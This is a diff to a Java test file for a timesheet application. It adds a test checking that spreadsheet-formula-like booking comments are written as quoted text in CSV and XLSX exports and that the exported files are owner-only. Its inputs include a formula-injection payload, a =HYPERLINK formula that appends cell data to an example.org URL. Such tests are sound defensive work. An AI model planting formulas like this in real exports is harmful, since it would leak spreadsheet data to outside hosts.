@@ -13,6 +13,7 @@ import java.io.InputStream;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
 import java.time.LocalDate;
 import java.time.YearMonth;
 import java.util.List;
@@ -99,6 +100,41 @@ class ReportsTest {
         assertEquals("\uFEFFKey;Project;Hours;Bookings", lines.get(0));
         assertEquals("IT-7;\"Neue Telefonanlage; Stufe \"\"2\"\"\";11,5;2", lines.get(1));
         assertEquals(";(no project);3,5;1", lines.get(2));
+    }
+
+    @Test
+    void commentsThatASpreadsheetWouldRunAsFormulasAreWrittenAsTextAndTheFilesAreTheOwnersOnly() throws Exception {
+        List<String> formulas = List.of("=HYPERLINK(\"http://example.org/?\"&A1;\"Details\")", "+49 30 1234", "-2+3",
+                "@SUMME(A1:A9)", "\tTab", "\rZeile");
+        for (String comment : formulas) {
+            booking(bernd, LocalDate.of(2027, 2, 10), "08:00", "09:00").on(task).comment(comment).in(department);
+        }
+        Report timesheet = Reports.timesheet(bernd, FEBRUARY, Locale.GERMAN);
+        Path csv = directory.resolve("stundenzettel.csv");
+        ReportExport.write(timesheet, Format.CSV, csv, Locale.GERMANY, new NullProgressMonitor());
+        String written = Files.readString(csv, StandardCharsets.UTF_8);
+        assertTrue(written.contains(";\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1;\"\"Details\"\")\""), written);
+        for (String comment : List.of("'+49 30 1234", "'-2+3", "'@SUMME(A1:A9)", "'\tTab", "\"'\rZeile\"")) {
+            assertTrue(written.contains(";" + comment + ";") || written.contains(";" + comment + "\r\n"), comment);
+        }
+        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(csv)));
+
+        Path xlsx = directory.resolve("stundenzettel.xlsx");
+        ReportExport.write(timesheet, Format.XLSX, xlsx, Locale.GERMANY, new NullProgressMonitor());
+        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(xlsx)));
+        try (InputStream in = Files.newInputStream(xlsx); XSSFWorkbook workbook = new XSSFWorkbook(in)) {
+            Sheet sheet = workbook.getSheetAt(0);
+            int column = timesheet.columns().size() - 2; // the comment
+            List<String> quoted = new java.util.ArrayList<>();
+            for (int row = 3; row < 3 + timesheet.rows().size(); row++) {
+                org.apache.poi.ss.usermodel.Cell cell = sheet.getRow(row).getCell(column);
+                assertEquals(CellType.STRING, cell.getCellType());
+                if (cell.getCellStyle().getQuotePrefixed()) {
+                    quoted.add(cell.getStringCellValue());
+                }
+            }
+            assertEquals(formulas, quoted, "exactly the formula-like comments are quote-prefixed text");
+        }
     }
 
     @Test
